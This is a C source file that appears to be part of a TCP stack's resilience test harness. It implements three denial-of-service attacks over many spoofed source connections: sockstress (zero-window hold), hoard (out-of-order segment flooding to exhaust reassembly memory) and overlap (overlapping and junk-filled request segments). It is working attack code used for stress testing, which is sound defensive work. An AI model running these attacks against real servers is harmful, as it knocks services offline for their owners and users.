// SPDX-License-Identifier: Apache-2.0
// Attacks from within connections: thousands of them, each a few bytes of state here.
//
//   sockstress  asks for answers, and never opens its window to take them
//   hoard       sends what comes later, never what comes next
//   overlap     sends a request in pieces that overlap, in any order, and junk where bytes were acknowledged: each
//               connection must still get its answer
#include "attack.h"

#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define PORTS         16384u // of a source address
#define FIRST_PORT    16384u
#define FIRST_IP      (ATTACK_SOURCES | 0xc801u) // 198.19.200.1; each attack has 16 * 256 addresses of its own
#define RETRY_NS      500000000ull
#define WINDOW_BYTES  64240
#define MSS_BYTES     1400
#define REQUEST_BYTES 8192
#define OPENS         256 // at a time

enum state { CLOSED, SYN_SENT, ESTABLISHED, OVER };

struct connection {
    enum state state;
    uint32_t first, una; // sequence number of our first byte; acknowledged up to
    uint32_t next;       // the server's next one
    uint64_t acted_ns;
    uint32_t rounds;
    uint32_t tried; // overlap: what comes next was last sent from here
};

struct hold {
    const char *name;
    void (*begin)(struct attack *a, struct connection *c);
    void (*again)(struct attack *a, struct connection *c); // twice a second
    void (*input)(struct attack *a, struct connection *c, const struct received *r);
};

static struct connection *connections;
static uint32_t first_ip;
static char request[REQUEST_BYTES + 1];

static struct victim own_address(const struct connection *c)
{
    uint32_t i = (uint32_t)(c - connections);

    return (struct victim){first_ip + i / PORTS, (uint16_t)(FIRST_PORT + i % PORTS)};
}

static void send_bytes(struct attack *a, struct connection *c, uint32_t seq, uint16_t window, const void *data, size_t bytes)
{
    attack_segment(a, &(struct segment){.from = own_address(c),
                                        .seq = seq,
                                        .ack = c->next,
                                        .flags = TCP_ACK | (bytes ? TCP_PSH : 0),
                                        .window = window,
                                        .payload = data,
                                        .payload_bytes = bytes});
}

// --- sockstress

static void stress_begin(struct attack *a, struct connection *c)
{
    static const char gets[] = "GET / HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n"
                               "GET / HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n";

    send_bytes(a, c, c->first, 0, gets, sizeof(gets) - 1);
}

// A probe is answered: the window is still shut.
static void stress_input(struct attack *a, struct connection *c, const struct received *r)
{
    send_bytes(a, c, c->una, 0, NULL, 0);
}

// --- hoard

static void hoard_again(struct attack *a, struct connection *c)
{
    static uint8_t junk[MSS_BYTES];

    for (int k = 0; k < 32; k++) {
        uint64_t r = attack_draw(a, (uint64_t)(c - connections) << 32 | c->rounds * 32u | (uint32_t)k);
        size_t bytes = r & 1 ? 1 : MSS_BYTES; // one byte may hold as much memory as a full segment

        send_bytes(a, c, c->first + 1 + 2 * (uint32_t)((r >> 8) % ((WINDOW_BYTES - MSS_BYTES) / 2)), WINDOW_BYTES, junk, bytes);
    }
    c->rounds++;
}

// --- overlap

static void request_make(void)
{
    static const char head[] = "POST /v1/traces HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                               "Content-Length: %05zu\r\n\r\n{\"resourceSpans\":[]";
    int bytes = snprintf(request, sizeof(request), head, (size_t)0);
    const char *body = strstr(request, "\r\n\r\n") + 4;

    snprintf(request, sizeof(request), head, (size_t)(request + REQUEST_BYTES - body));
    memset(request + bytes, ' ', REQUEST_BYTES - (size_t)bytes - 1);
    request[REQUEST_BYTES - 1] = '}';
}

// What comes next, so that it ends.
static void overlap_next(struct attack *a, struct connection *c)
{
    uint32_t at = c->una - c->first, left = at < REQUEST_BYTES ? REQUEST_BYTES - at : 0;

    c->tried = c->una;
    if (left)
        send_bytes(a, c, c->una, WINDOW_BYTES, request + at, left < MSS_BYTES ? left : MSS_BYTES);
}

static void overlap_again(struct attack *a, struct connection *c)
{
    static uint8_t junk[MSS_BYTES];
    uint32_t acknowledged = c->una - c->first;

    memset(junk, 'X', sizeof(junk));
    if (acknowledged >= REQUEST_BYTES)
        return;
    for (uint32_t k = 0; k < 24; k++) {
        uint64_t r = attack_draw(a, (uint64_t)(c - connections) << 32 | c->rounds * 24 | k);
        uint32_t at = (uint32_t)((r >> 8) % REQUEST_BYTES), bytes = 1 + (uint32_t)((r >> 32) % MSS_BYTES);

        if (bytes > REQUEST_BYTES - at)
            bytes = REQUEST_BYTES - at;
        send_bytes(a, c, c->first + at, WINDOW_BYTES, request + at, bytes);
    }
    if (acknowledged) {
        uint32_t bytes = acknowledged < MSS_BYTES ? acknowledged : MSS_BYTES;

        send_bytes(a, c, c->una - bytes, WINDOW_BYTES, junk, bytes);
    }
    overlap_next(a, c);
    c->rounds++;
}

static void overlap_input(struct attack *a, struct connection *c, const struct received *r)
{
    bool ok = r->payload_bytes >= 12 && memcmp(r->payload, "HTTP/1.1 200", 12) == 0;

    if (c->tried != c->una)
        overlap_next(a, c);
    if (!r->payload_bytes || r->seq != c->next)
        return;
    a->answered++;
    a->answered_ok += ok;
    if (!ok && a->answered == a->answered_ok + 1)
        fprintf(stderr, "attack: answer: %.*s\n", (int)r->payload_bytes, (const char *)r->payload);
    attack_segment(a, &(struct segment){.from = own_address(c), .seq = c->first + REQUEST_BYTES, .flags = TCP_RST});
    c->state = OVER;
}

static const struct hold holds[] = {{"sockstress", stress_begin, NULL, stress_input},
                                    {"hoard", NULL, hoard_again, NULL},
                                    {"overlap", NULL, overlap_again, overlap_input}};

// --- connections

static void open_one(struct attack *a, struct connection *c, uint64_t now)
{
    static const uint8_t mss[] = {2, 4, MSS_BYTES >> 8, MSS_BYTES & 0xff};

    c->first = (uint32_t)attack_draw(a, (uint64_t)(c - connections)) + 1;
    c->una = c->first;
    c->state = SYN_SENT;
    c->acted_ns = now;
    attack_segment(a, &(struct segment){.from = own_address(c), .seq = c->first - 1, .flags = TCP_SYN, .window = WINDOW_BYTES,
                                        .options = mss, .options_bytes = sizeof(mss)});
}

static void input(struct attack *a, const struct hold *hold, const struct received *r)
{
    uint32_t i = (r->to.ip - first_ip) * PORTS + (r->to.port - FIRST_PORT);
    struct connection *c = &connections[i];

    if (r->to.ip < first_ip || r->to.port < FIRST_PORT || i >= a->connections)
        return;
    if (r->flags & TCP_RST) {
        a->resets++;
        c->state = OVER;
        return;
    }
    if ((r->flags & TCP_SYN) && c->state == SYN_SENT) {
        a->established++;
        c->state = ESTABLISHED;
        c->next = r->seq + 1;
        c->acted_ns = attack_now_ns();
        if (hold->begin)
            hold->begin(a, c);
        else
            send_bytes(a, c, c->first, WINDOW_BYTES, NULL, 0);
        return;
    }
    if (c->state != ESTABLISHED)
        return;
    if (r->ack - c->una < 0x80000000u)
        c->una = r->ack;
    if (hold->input)
        hold->input(a, c, r);
}

static void turn(struct attack *a, const struct hold *hold, uint32_t *opening)
{
    uint64_t now = attack_now_ns();
    struct received r;

    for (uint32_t i = 0; i < a->connections && !attack_is_over(a); i++) {
        struct connection *c = &connections[i];

        if (c->state == CLOSED && *opening) {
            --*opening;
            open_one(a, c, now);
        } else if (c->state == SYN_SENT && now - c->acted_ns > RETRY_NS) {
            open_one(a, c, now);
        } else if (c->state == ESTABLISHED && hold->again && now - c->acted_ns > RETRY_NS) {
            c->acted_ns = now;
            hold->again(a, c);
        }
    }
    attack_flush(a);
    for (int k = 0; k < 4096 && attack_receive(a, &r); k++)
        input(a, hold, &r);
    attack_flush(a);
}

bool attack_hold(struct attack *a)
{
    const struct hold *hold = holds;

    while (strcmp(hold->name, a->mode) != 0)
        if (++hold == holds + sizeof(holds) / sizeof(holds[0]))
            return false;
    first_ip = FIRST_IP + (uint32_t)(hold - holds) * 0x1000;
    request_make();
    connections = calloc(a->connections, sizeof(*connections));
    while (connections && !attack_is_over(a)) {
        struct pollfd fd = {.fd = a->fd, .events = POLLIN};
        uint32_t opening = OPENS;

        turn(a, hold, &opening);
        if (a->answered == a->connections)
            break;
        poll(&fd, 1, opening ? 10 : 0);
    }
    free(connections);
    return true;
}
